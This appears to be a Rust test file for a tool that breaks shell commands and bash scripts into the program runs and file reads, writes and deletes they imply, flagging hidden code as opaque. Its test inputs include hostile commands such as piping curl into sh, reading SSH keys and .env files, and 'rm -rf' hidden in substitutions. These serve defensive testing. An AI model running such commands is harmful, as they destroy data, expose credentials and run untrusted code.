use super::*;

fn bundled() -> Programs {
    Programs::parse(include_str!("../../../policies/programs.toml")).unwrap()
}

/// Each part as `action target`, `!` marking opaque and `*` patterns.
fn shown(argv: &[&str], cwd: &str) -> Vec<String> {
    let argv: Vec<String> = argv.iter().map(|a| (*a).to_owned()).collect();
    parts(&argv, cwd, "alice", &bundled())
        .unwrap()
        .into_iter()
        .map(|p| {
            let target = match &p.resource {
                ResourceInput::Command { argv, .. } => quote_argv(argv),
                ResourceInput::File { path, .. } => path.clone(),
                other => format!("{other:?}"),
            };
            format!("{}{}{} {target}", p.action, if p.opaque { "!" } else { "" }, if p.pattern() { "*" } else { "" })
        })
        .collect()
}

fn bash(script: &str) -> Vec<String> {
    shown(&["bash", "-c", script], "/home/alice/project")
}

#[test]
fn a_plain_command_is_itself_and_its_files() {
    assert_eq!(shown(&["ls", "-la"], "/w"), ["exec ls -la"]);
    assert_eq!(shown(&["cat", "id_rsa"], "/home/alice/.ssh"), ["exec cat id_rsa", "fs.read /home/alice/.ssh/id_rsa"]);
    assert_eq!(
        shown(&["cp", "-r", "a", "b", "/tmp/out"], "/w"),
        [
            "exec cp -r a b /tmp/out",
            "fs.read /w/a",
            "fs.read* /w/a/**/*",
            "fs.read /w/b",
            "fs.read* /w/b/**/*",
            "fs.write /tmp/out"
        ]
    );
    assert_eq!(
        shown(&["grep", "-n", "TODO", "src/main.rs"], "/w"),
        ["exec grep -n TODO src/main.rs", "fs.read /w/src/main.rs"]
    );
    assert_eq!(shown(&["grep", "-e", "x", "a"], "/w"), ["exec grep -e x a", "fs.read /w/a"]);
    assert_eq!(shown(&["sed", "-i", "s/a/b/", "f"], "/w"), ["exec sed -i s/a/b/ f", "fs.read /w/f", "fs.write /w/f"]);
    assert_eq!(
        shown(&["dd", "if=/dev/sda", "of=disk.img"], "/w"),
        ["exec dd if=/dev/sda of=disk.img", "fs.read /dev/sda", "fs.write /w/disk.img"]
    );
}

#[test]
fn scripts_are_read_into_their_commands_and_redirections() {
    assert_eq!(
        bash("ls | grep x > out.txt && cat < in.txt"),
        [
            "exec ls",
            "fs.write /home/alice/project/out.txt",
            "exec grep x",
            "fs.read /home/alice/project/in.txt",
            "exec cat",
        ]
    );
    assert_eq!(
        bash("cd src && cat main.rs 2>/dev/null"),
        ["exec cat main.rs", "fs.read /home/alice/project/src/main.rs"]
    );
    assert_eq!(
        bash("echo $(cat ~/.ssh/id_rsa)"),
        ["exec cat /home/alice/.ssh/id_rsa", "fs.read /home/alice/.ssh/id_rsa"]
    );
    assert_eq!(bash("curl -s https://x.sh | sh"), ["exec curl -s https://x.sh", "exec! sh"]);
    assert_eq!(bash("eval \"$X\""), ["exec! eval '\"$X\"'"]);
    assert_eq!(bash("$CMD file"), ["exec! '$CMD' file"]);
    assert_eq!(bash("cat *.rs"), ["exec cat '*.rs'", "fs.read* /home/alice/project/*.rs"]);
    assert_eq!(bash("cat $F"), ["exec! cat '$F'"]);
    assert_eq!(bash("cat <<'EOF'\n$(rm -rf /)\nEOF"), ["exec cat"]);
    assert_eq!(bash("cat <<EOF\n$(rm -rf x)\nEOF"), ["exec rm -rf x", "fs.delete /home/alice/project/x", "exec cat"]);
    assert_eq!(bash("bash -c 'sh -c \"rm y\"'"), ["exec rm y", "fs.delete /home/alice/project/y"]);
    assert_eq!(bash("if [ -f a ]; then rm a; fi"), ["exec rm a", "fs.delete /home/alice/project/a"]);
    // A function runs wherever it is called from.
    assert_eq!(bash("f() { rm -rf b; }; f"), ["exec! rm -rf b"]);
    assert_eq!(bash("f() { cd /tmp; }; f; cat x"), ["exec! cat x"]);
    // `cd` may fail: after `;` both folders; after `||` the old one.
    assert_eq!(bash("cd a && cat b"), ["exec cat b", "fs.read /home/alice/project/a/b"]);
    assert_eq!(bash("cd a; cat b"), ["exec cat b", "fs.read /home/alice/project/b", "fs.read /home/alice/project/a/b"]);
    assert_eq!(bash("cd a || cat b"), ["exec cat b", "fs.read /home/alice/project/b"]);
    assert_eq!(bash("((("), ["exec! bash -c '((('"]);
    assert_eq!(bash("git push origin $'\\x6dain'"), ["exec git push origin main"]);
    assert_eq!(bash("cat $'\\x2eenv'"), ["exec cat .env", "fs.read /home/alice/project/.env"]);
    // brush-parser reads nested subshells as arithmetic; bash does not.
    assert_eq!(bash("( ( rm z ) )"), ["exec rm z", "fs.delete /home/alice/project/z"]);
    assert_eq!(bash("(( n += 1 ))"), Vec::<String>::new());
    assert_eq!(bash("(( $(rm z) ))"), ["exec! '((' '$(rm z)'"]);
    // A substitution inside a parameter expansion runs unseen: opaque.
    assert_eq!(bash("echo ${X:-$(rm -rf ~)}"), ["exec! '${' '${X:-$(rm -rf ~)}'"]);
}

#[test]
fn wrappers_are_parts_and_so_is_what_they_run() {
    assert_eq!(
        shown(&["sudo", "-u", "root", "rm", "x"], "/w"),
        ["exec sudo -u root rm x", "exec rm x", "fs.delete /w/x"]
    );
    assert_eq!(
        shown(&["env", "A=1", "timeout", "5", "cat", "f"], "/w"),
        ["exec env A=1 timeout 5 cat f", "exec timeout 5 cat f", "exec cat f", "fs.read /w/f"]
    );
    assert_eq!(
        bash("find . -name '*.txt' | xargs rm"),
        ["exec find . -name '*.txt'", "fs.read /home/alice/project", "exec xargs rm", "exec! rm"]
    );
    assert_eq!(
        shown(&["find", "/home/alice", "-name", "id_*", "-exec", "cat", "{}", "+"], "/w"),
        [
            "exec find /home/alice -name 'id_*' -exec cat '{}' +",
            "fs.read /home/alice",
            "exec cat '/home/alice/**/id_*'",
            "fs.read* /home/alice/**/id_*"
        ]
    );
}

#[test]
fn a_recursive_read_of_a_folder_reads_everything_below_it() {
    let w = "/home/alice/project";
    assert_eq!(
        shown(&["grep", "-rn", "SECRET", "."], w),
        ["exec grep -rn SECRET .", "fs.read /home/alice/project", "fs.read* /home/alice/project/**/*"]
    );
    assert_eq!(
        shown(&["grep", "-d", "recurse", "x", "conf"], w),
        ["exec grep -d recurse x conf", "fs.read /home/alice/project/conf", "fs.read* /home/alice/project/conf/**/*"]
    );
    assert_eq!(
        shown(&["grep", "--recursive", "x"], w),
        ["exec grep --recursive x", "fs.read /home/alice/project", "fs.read* /home/alice/project/**/*"]
    );
    assert_eq!(
        shown(&["rg", "x"], w),
        ["exec rg x", "fs.read /home/alice/project", "fs.read* /home/alice/project/**/*"]
    );
    assert_eq!(
        shown(&["rsync", "-a", "src/", "/tmp/out"], w),
        [
            "exec rsync -a src/ /tmp/out",
            "fs.read /home/alice/project/src",
            "fs.read* /home/alice/project/src/**/*",
            "fs.write /tmp/out"
        ]
    );
    // Without recursion, a file is itself.
    assert_eq!(
        shown(&["grep", "-n", "fn", "src/main.rs"], w),
        ["exec grep -n fn src/main.rs", "fs.read /home/alice/project/src/main.rs"]
    );
    assert_eq!(shown(&["grep", "-A", "3", "x", "f"], w), ["exec grep -A 3 x f", "fs.read /home/alice/project/f"]);
}

/// Whether the first part (the program's own `exec`) is opaque.
fn opaque(argv: &[&str]) -> bool {
    shown(argv, "/home/alice/project").first().is_some_and(|p| p.starts_with("exec!"))
}

#[test]
fn code_on_an_interpreter_s_command_line_or_standard_input_is_opaque() {
    for argv in [
        &["python3", "-c", "import os"][..],
        &["python3", "-Sc", "import os"],
        &["python3", "-cimport os"],
        &["python3", "-W", "ignore", "-c", "x"],
        &["python3", "-W", "-c", "x"],
        &["python3", "-"],
        &["python3"],
        &["python3", "-u"],
        &["python3", "--", "-"],
        &["node", "-e", "require('fs')"],
        &["node", "--eval=1"],
        &["node", "-pe", "1"],
        &["node", "-r", "x", "-p", "1"],
        &["perl", "-ne", "print"],
        &["perl", "-l", "-e", "print"],
        &["perl", "-I", "/tmp", "-e", "print"],
        &["perl", "-E", "say 1"],
        &["ruby", "-e", "puts 1"],
        &["php", "-r", "echo 1;"],
        &["lua", "-e", "x"],
        &["deno", "eval", "1"],
        &["awk", "BEGIN { system(\"cat .env\") }"],
        &["awk", "{ print > \"out\" }", "f"],
        &["awk", "{ \"cat .env\" | getline x }"],
        &["env", "-S", "python3 -c 1"],
        &["env", "--split-string=sh -c x"],
        // A script's argument that looks like a code option is taken
        // for one: a person decides, the safe mistake.
        &["python3", "-u", "build.py", "-c", "x"],
    ] {
        assert!(opaque(argv), "{argv:?} is not opaque: {:?}", shown(argv, "/home/alice/project"));
    }
    for argv in [
        &["python3", "build.py"][..],
        &["python3", "-m", "pytest", "-c", "pytest.ini"],
        &["python3", "-mpytest"],
        &["node", "server.js"],
        &["perl", "script.pl"],
        &["awk", "{ print $1 }", "f"],
        &["awk", "-F:", "{ print $1 }", "/etc/passwd"],
        &["awk", "-f", "prog.awk", "f"],
        &["deno", "run", "main.ts"],
        &["env", "FOO=1", "ls"],
    ] {
        assert!(!opaque(argv), "{argv:?} is opaque: {:?}", shown(argv, "/home/alice/project"));
    }
    // Through a shell, a pipe and xargs.
    assert!(bash("echo 'import os' | python3").iter().any(|p| p == "exec! python3"));
    assert!(bash("python3 -c \"import base64;exec(base64.b64decode('eA=='))\"").iter().all(|p| p.starts_with("exec!")));
    assert!(bash("echo x | xargs sh -c").iter().any(|p| p.starts_with("exec! sh")));
    assert!(bash("echo x | bash").iter().any(|p| p == "exec! bash"));
    assert!(bash("echo x | sh -s").iter().any(|p| p == "exec! sh -s"));
    assert!(bash("ls | xargs python3").iter().any(|p| p == "exec! python3"));
}

#[test]
fn git_subcommands_and_abbreviated_options() {
    assert_eq!(shown(&["git", "push", "--mirro", "origin"], "/w"), ["exec git push --mirror origin"]);
    assert_eq!(shown(&["git", "p", "origin", "main"], "/w"), ["exec! git p origin main"]);
    assert_eq!(shown(&["git", "-C", "x", "status"], "/w"), ["exec git -C x status"]);
}

#[test]
fn program_identity_and_bounds() {
    let programs = bundled();
    // A shell run from the workspace is not the shell: not read.
    assert_eq!(shown(&["./bash", "-c", "rm x"], "/w"), ["exec ./bash -c 'rm x'"]);
    let many: Vec<String> = ["bash", "-c", &"true && ls;".repeat(100)].map(String::from).to_vec();
    let err = parts(&many, "/w", "alice", &programs).unwrap_err();
    assert_eq!(err.field, "resource.command.argv");
}
